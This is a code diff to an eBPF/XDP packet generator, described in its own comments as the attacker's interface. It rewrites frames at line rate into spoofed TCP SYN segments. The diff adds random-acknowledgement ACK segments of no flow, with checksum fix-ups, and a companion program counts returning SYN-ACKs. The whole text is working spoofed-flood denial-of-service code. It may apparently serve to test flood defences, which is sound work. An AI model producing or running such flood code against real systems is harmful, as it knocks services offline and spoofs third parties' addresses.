@@ -1,7 +1,8 @@
 /*
  * The attacker's interface in two programs. `storm` is run on live frames (BPF_F_TEST_XDP_LIVE_FRAMES),
- * millions a second: each becomes a spoofed SYN, when one is due. `gate` is attached to the same
- * interface: it counts the SYN-ACKs that come back for spoofed addresses, and no stack sees them.
+ * millions a second: each becomes a spoofed SYN, or another segment of no flow, when one is due. `gate` is
+ * attached to the same interface: it counts the SYN-ACKs that come back for spoofed addresses, and no stack
+ * sees them.
  */
 #include <linux/bpf.h>
 #include <linux/if_ether.h>
@@ -14,9 +15,11 @@
 
 #include "storm.h"
 
-/* The SYN that all others are made from: what changes is zero in it, and not in the sums. */
+/* The segment that all others are made from: what changes is zero in it, and not in the sums. */
 struct storm_template template;
 const volatile __u64 rate; /* a second; 0: as many as can be */
+const volatile bool acknowledges;
+const volatile __u32 length, tsval; /* of the frame; where the upper half of its timestamp is */
 
 __u64 start_ns, due, sent;
 __u64 random = 88172645463325252ull;
@@ -61,12 +64,16 @@ int storm(struct xdp_md *ctx)
 	struct iphdr *ip = (void *)(data + sizeof(struct ethhdr));
 	struct tcphdr *tcp = (void *)(ip + 1);
 	__u16 host, port, seq, seq_low, clock;
+	__u32 sum;
 	__u64 drawn;
 
-	if (data + STORM_LENGTH > end || !is_due())
+	if (data + length > end || !is_due())
 		return XDP_DROP;
 	/* whole words: the kernel takes them at any address */
-	__builtin_memcpy(__builtin_assume_aligned(data, 8), template.frame, STORM_LENGTH);
+	if (length == STORM_LENGTH)
+		__builtin_memcpy(__builtin_assume_aligned(data, 8), template.frame, STORM_LENGTH);
+	else
+		__builtin_memcpy(__builtin_assume_aligned(data, 8), template.frame, STORM_SHORT);
 	drawn = draw();
 	host = (__u16)drawn;
 	port = (__u16)(drawn >> 16) | bpf_htons(1024);
@@ -78,8 +85,13 @@ int storm(struct xdp_md *ctx)
 	tcp->source = port;
 	((__u16 *)&tcp->seq)[0] = seq;
 	((__u16 *)&tcp->seq)[1] = seq_low;
-	*(__u16 *)(data + STORM_TSVAL) = clock;
-	tcp->check = fold(template.tcp_sum + host + port + seq + seq_low + clock);
+	*(__u16 *)(data + tsval) = clock;
+	sum = template.tcp_sum + host + port + seq + seq_low + clock;
+	if (acknowledges) {
+		tcp->ack_seq = (__u32)draw();
+		sum += (tcp->ack_seq & 0xffff) + (tcp->ack_seq >> 16);
+	}
+	tcp->check = fold(sum);
 	sent++;
 	return XDP_TX;
 }
